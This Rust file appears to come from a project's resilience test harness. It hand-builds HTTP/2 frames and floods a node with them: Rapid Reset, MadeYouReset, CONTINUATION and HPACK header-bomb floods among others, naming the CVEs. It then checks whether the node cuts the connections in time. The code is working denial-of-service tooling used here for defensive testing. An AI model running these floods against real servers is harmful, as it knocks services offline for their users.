//! HTTP/2 written by hand over a real TLS connection (RFC 9113).

use crate::ATTACKER;
use crate::harness::rogue::Rogue;
use crate::relay::connect_from;
use std::net::SocketAddr;
use std::sync::Arc;
use std::time::{Duration, Instant};
use tokio::io::{AsyncReadExt, AsyncWriteExt};
use watchfire::link::dial::DialOptions;
use watchfire::model::EntryHash;
use watchfire::model::identity::Endpoint;
use watchfire::model::log::Head;

const DATA: u8 = 0;
const HEADERS: u8 = 1;
const PRIORITY: u8 = 2;
const RST_STREAM: u8 = 3;
const SETTINGS: u8 = 4;
const PING: u8 = 6;
const GOAWAY: u8 = 7;
const WINDOW_UPDATE: u8 = 8;
const CONTINUATION: u8 = 9;
const END_HEADERS: u8 = 4;

#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Flood {
    /// Streams that are opened and reset (CVE-2023-44487).
    RapidReset,
    /// Streams that the other side has to reset (CVE-2025-8671).
    MadeYouReset,
    /// A header block without an end (CVE-2024-27316).
    Continuation,
    Ping,
    Settings,
    /// As many settings as a frame holds.
    LongSettings,
    Priority,
    WindowUpdate,
    EmptyData,
    /// A message in pieces of one byte.
    TinyData,
    /// A message in pieces of forty bytes.
    SmallData,
    /// Small on the wire, large when decoded: one header named again and again.
    HeaderBomb,
    Unknown,
    GoAway,
    /// A frame longer than any may be.
    LongFrame,
    /// Not HTTP/2 at all.
    Noise,
    /// Streams that are opened, and nothing of the answers is read.
    Unread,
}

pub const FLOODS: [Flood; 17] = [
    Flood::RapidReset,
    Flood::MadeYouReset,
    Flood::Continuation,
    Flood::Ping,
    Flood::Settings,
    Flood::LongSettings,
    Flood::Priority,
    Flood::WindowUpdate,
    Flood::EmptyData,
    Flood::TinyData,
    Flood::SmallData,
    Flood::HeaderBomb,
    Flood::Unknown,
    Flood::GoAway,
    Flood::LongFrame,
    Flood::Noise,
    Flood::Unread,
];

/// What came of an attack.
#[derive(Debug, Default)]
pub struct Outcome {
    /// Connections that the node has ended.
    pub cuts: u64,
    /// Connections that were alive when the attack was over, each at least as old as told.
    pub alive: Option<Duration>,
    /// The longest that a connection lived before it was cut.
    pub longest: Duration,
    /// What the node was sent.
    pub bytes: u64,
}

impl Outcome {
    /// Whether connections were cut, soon; the last one may be too young for it.
    pub fn is_cut(&self) -> bool {
        self.cuts > 0 && self.longest < crate::CUT_WITHIN && self.alive.is_none_or(|alive| alive < crate::CUT_WITHIN)
    }
}

fn frame(kind: u8, flags: u8, stream: u32, payload: &[u8]) -> Vec<u8> {
    let [_, a, b, c] = (payload.len() as u32).to_be_bytes();
    [&[a, b, c, kind, flags], stream.to_be_bytes().as_slice(), payload].concat()
}

/// HPACK: POST to the link's method, as gRPC (RFC 7541, static table and literals without indexing).
fn request() -> Vec<u8> {
    fn text(text: &str) -> Vec<u8> {
        [&[text.len() as u8], text.as_bytes()].concat()
    }
    [
        vec![0x83, 0x86, 0x04],
        text("/watchfire.v1.Link/Open"),
        vec![0x01],
        text("peer"),
        vec![0x0f, 0x10],
        text("application/grpc"),
        vec![0x00],
        text("te"),
        text("trailers"),
    ]
    .concat()
}

/// Makes the bytes of one flood, piece by piece.
struct Maker {
    flood: Flood,
    /// The stream that was opened last: odd ones are a client's.
    stream: u32,
}

impl Maker {
    fn next(&mut self) -> u32 {
        self.stream = if self.stream == 0 { 1 } else { self.stream + 2 };
        self.stream
    }

    fn open(&mut self) -> Vec<u8> {
        frame(HEADERS, END_HEADERS, self.next(), &request())
    }

    /// What comes before the flood.
    fn begin(&mut self) -> Vec<u8> {
        let preface = [b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n".as_slice(), &frame(SETTINGS, 0, 0, &[])].concat();
        let first = match self.flood {
            Flood::EmptyData => self.open(),
            // A message of 60,000 bytes begins.
            Flood::TinyData | Flood::SmallData => [self.open(), frame(DATA, 0, self.stream, &[0, 0, 0, 0xea, 0x60])].concat(),
            Flood::Continuation => frame(HEADERS, 0, self.next(), &request()),
            Flood::Unread => (0..16).flat_map(|_| self.open()).collect(),
            _ => Vec::new(),
        };
        [preface, first].concat()
    }

    fn piece(&mut self) -> Vec<u8> {
        (0..50).flat_map(|_| self.one()).collect()
    }

    fn one(&mut self) -> Vec<u8> {
        match self.flood {
            Flood::RapidReset => [self.open(), frame(RST_STREAM, 0, self.stream, &[0, 0, 0, 8])].concat(),
            Flood::MadeYouReset => [self.open(), frame(WINDOW_UPDATE, 0, self.stream, &[0; 4])].concat(),
            Flood::Continuation => frame(CONTINUATION, 0, self.stream, &[0x00, 1, b'a', 1, b'b']),
            Flood::Ping => frame(PING, 0, 0, &[7; 8]),
            Flood::Settings => frame(SETTINGS, 0, 0, &[]),
            Flood::LongSettings => frame(SETTINGS, 0, 0, &[0, 3, 0, 0, 0, 100].repeat(2_700)),
            Flood::Priority => frame(PRIORITY, 0, 1, &[0, 0, 0, 0, 16]),
            Flood::WindowUpdate => frame(WINDOW_UPDATE, 0, 0, &[0, 0, 0, 1]),
            Flood::EmptyData => frame(DATA, 0, self.stream, &[]),
            Flood::TinyData => frame(DATA, 0, self.stream, &[1]),
            Flood::SmallData => frame(DATA, 0, self.stream, &[1; 40]),
            Flood::HeaderBomb => self.bomb(),
            Flood::Unknown => frame(0xfa, 0, 0, b"?"),
            Flood::GoAway => frame(GOAWAY, 0, 0, &[0; 8]),
            Flood::LongFrame => [&[0xff, 0xff, 0xff, DATA, 0, 0, 0, 0, 1], [0; 1_000].as_slice()].concat(),
            Flood::Noise => watchfire::model::crypto::random::<64>().to_vec(),
            Flood::Unread => Vec::new(),
        }
    }

    /// A header of 3,800 bytes enters the dynamic table, and is named 12,000 times: 45 MB.
    fn bomb(&mut self) -> Vec<u8> {
        let value = vec![b'x'; 3_800];
        // Length 3,800 with a prefix of 7 bits: 127, then 3,673 in groups of seven bits.
        let entry = [&[0x40, 1, b'a', 0x7f, (3_673 % 128 + 128) as u8, (3_673 / 128) as u8], value.as_slice()].concat();
        let block = [request(), entry, vec![0xbe; 12_000]].concat();
        frame(HEADERS, END_HEADERS, self.next(), &block)
    }
}

/// So much is sent in a millisecond: limits trip within half a megabyte, and what is sent beyond only keeps the cores busy that the attacker
/// shares with the attacked here.
const PACE_BYTES: usize = 64 << 10;

/// Attacks until the time is over, on a new connection whenever the last one is cut; until it is cut for the first time with more patience.
pub async fn attack(rogue: Arc<Rogue>, endpoint: Endpoint, flood: Flood, time: Duration, patience: Duration) -> Outcome {
    let (start, mut outcome) = (Instant::now(), Outcome::default());
    loop {
        let end = start + if outcome.cuts == 0 { time.max(patience) } else { time };
        if Instant::now() >= end {
            return outcome;
        }
        let Ok(connection) = rogue.dial_by(&endpoint, &DialOptions::default()).await else {
            tokio::time::sleep(Duration::from_millis(5)).await;
            continue;
        };
        let (began, mut maker) = (Instant::now(), Maker { flood, stream: 0 });
        let (mut reading, mut writing) = tokio::io::split(connection.stream);
        let drain = async {
            if flood == Flood::Unread {
                return std::future::pending().await;
            }
            let mut buffer = vec![0; 64 << 10];
            while reading.read(&mut buffer).await.is_ok_and(|count| count > 0) {}
        };
        let write = async {
            let mut piece = maker.begin();
            let mut paced = 0;
            loop {
                outcome.bytes += piece.len() as u64;
                paced += piece.len();
                if paced >= PACE_BYTES {
                    paced = 0;
                    tokio::time::sleep(Duration::from_millis(1)).await;
                }
                if writing.write_all(&piece).await.is_err() || writing.flush().await.is_err() {
                    return;
                }
                piece = maker.piece();
                if piece.is_empty() {
                    // What was sent last waits in the network until the other side is gone.
                    tokio::time::sleep(Duration::from_millis(50)).await;
                    piece = frame(0xfa, 0, 0, b"?");
                }
            }
        };
        tokio::select! {
            () = drain => outcome.cuts += 1,
            () = write => outcome.cuts += 1,
            () = tokio::time::sleep_until(end.into()) => {
                outcome.alive = Some(began.elapsed());
                return outcome;
            }
        }
        outcome.longest = outcome.longest.max(began.elapsed());
    }
}

/// Sends its log from where it is known, batch upon batch, until it is told to stop; with which words it was.
pub async fn fill(rogue: &Rogue, known: Head) -> (String, String) {
    let mut stream = rogue.asked(Head { size: known.size + 1, hash: EntryHash([7; 32]) }).await;
    let mut head = known;
    loop {
        let entries = (0..500).map(|number| rogue.entry(&format!("full{}-{number}.example.org", head.size))).collect();
        let (batch, frames) = rogue.batch(head, entries, &rogue.identity.log_key());
        head = batch.checkpoint.head;
        stream.say_all(frames).await;
        if head.size - known.size > 3_000 {
            return stream.closed().await;
        }
    }
}

/// Calls with this hello, sixteen at a time, until the time is over; how many calls were answered with an alert.
pub async fn call(node: SocketAddr, hello: Vec<u8>, time: Duration) -> u64 {
    let end = Instant::now() + time;
    let caller = || async {
        let (mut calls, mut answer) = (0, Vec::new());
        while Instant::now() < end {
            let Ok(mut tcp) = connect_from(ATTACKER, node).await else { continue };
            answer.clear();
            if tcp.write_all(&hello).await.is_ok() && tcp.read_to_end(&mut answer).await.is_ok() && answer.len() == 7 {
                calls += 1;
            }
        }
        calls
    };
    futures_util::future::join_all((0..16).map(|_| caller())).await.into_iter().sum()
}

/// What a server floods with that it cannot open streams with.
pub const FROM_A_SERVER: [Flood; 9] = [
    Flood::Ping,
    Flood::Settings,
    Flood::LongSettings,
    Flood::Priority,
    Flood::WindowUpdate,
    Flood::EmptyData,
    Flood::Unknown,
    Flood::LongFrame,
    Flood::Noise,
];

/// Floods whoever has dialled this connection until it is cut; how long that took, or nothing when it was not.
pub async fn attack_dialler(connection: watchfire::link::accept::AcceptedConnection, flood: Flood) -> Option<Duration> {
    let (began, mut maker) = (Instant::now(), Maker { flood, stream: 1 });
    let (mut reading, mut writing) = tokio::io::split(connection.stream);
    let drain = async {
        let mut buffer = vec![0; 64 << 10];
        while reading.read(&mut buffer).await.is_ok_and(|count| count > 0) {}
    };
    let write = async {
        let mut piece = frame(SETTINGS, 0, 0, &[]);
        while writing.write_all(&piece).await.is_ok() && writing.flush().await.is_ok() {
            piece = maker.piece();
        }
    };
    tokio::select! {
        () = drain => Some(began.elapsed()),
        () = write => Some(began.elapsed()),
        () = tokio::time::sleep(crate::CUT_WITHIN) => None,
    }
}
